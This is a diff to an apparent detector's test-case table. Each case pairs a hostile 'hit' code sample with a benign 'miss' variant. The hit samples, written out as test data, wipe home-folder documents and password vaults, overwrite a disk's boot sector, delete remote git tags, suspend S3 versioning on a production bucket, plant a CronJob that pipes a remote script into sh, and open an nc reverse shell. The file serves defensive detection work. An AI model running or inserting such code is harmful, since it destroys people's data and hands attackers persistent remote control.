@@ -378,6 +378,36 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     miss: "RAILS_ENV=development bin/rails db:drop db:create",
     path: "scripts/x.sh",
   },
+  "destructive-doc-sweep": {
+    hit: "import os\nEXT = {'.docx', '.xlsx', '.pdf', '.pptx', '.kdbx', '.jpg', '.zip'}\nfor d, _s, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n        if os.path.splitext(n)[1] in EXT:\n            os.remove(os.path.join(d, n))\n",
+    miss: "import os\nEXT = {'.docx', '.xlsx', '.pdf', '.pptx', '.kdbx', '.jpg', '.zip'}\nfor d, _s, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n        if os.path.splitext(n)[1] in EXT:\n            print(os.path.join(d, n))\n",
+    path: "scripts/x.py",
+  },
+  "destructive-device-write": {
+    hit: "with open('/dev/sda', 'wb') as d:\n    d.write(b'\\x00' * 512)\n",
+    miss: "with open('/dev/sda', 'rb') as d:\n    head = d.read(512)\n",
+    path: "scripts/x.py",
+  },
+  "destructive-data-folders": {
+    hit: "import os, shutil\nhome = os.path.expanduser('~')\nfor d in ['Documents', 'Desktop', 'Pictures']:\n    shutil.rmtree(os.path.join(home, d), ignore_errors=True)\n",
+    miss: "import os\nhome = os.path.expanduser('~')\nfor d in ['Documents', 'Desktop', 'Pictures']:\n    print(os.path.join(home, d))\n",
+    path: "scripts/x.py",
+  },
+  "destructive-each": {
+    hit: "git tag -l | xargs -n 1 git push --delete origin\n",
+    miss: "git branch -r --merged main | grep -v main | sed 's#origin/##' | xargs -n 1 git push --delete origin\n",
+    path: "scripts/x.sh",
+  },
+  "destructive-recovery-off": {
+    hit: "aws s3api put-bucket-versioning --bucket acme-prod-data --versioning-configuration Status=Suspended\n",
+    miss: "aws s3api put-bucket-versioning --bucket acme-prod-data --versioning-configuration Status=Enabled\n",
+    path: "scripts/x.sh",
+  },
+  "persistence-autostart-code": {
+    hit: 'apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: health\nspec:\n  schedule: "* * * * *"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n            - name: c\n              image: alpine\n              command: ["/bin/sh", "-c", "wget -qO- https://health.example.net/h | sh"]\n',
+    miss: 'apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: backup\nspec:\n  schedule: "0 3 * * *"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n            - name: c\n              image: registry.acme.internal/db-backup:1.4\n',
+    path: "deploy/cronjob.yaml",
+  },
   "reverse-shell-argv": {
     hit: 'package main\n\nimport "os/exec"\n\nfunc main() {\n\t_ = exec.Command("nc", "203.0.113.9", "4444", "-e", "/bin/sh").Start()\n}\n',
     miss: 'package main\n\nimport "os/exec"\n\nfunc main() {\n\t_ = exec.Command("nc", "-zv", "db.internal", "5432").Run()\n}\n',
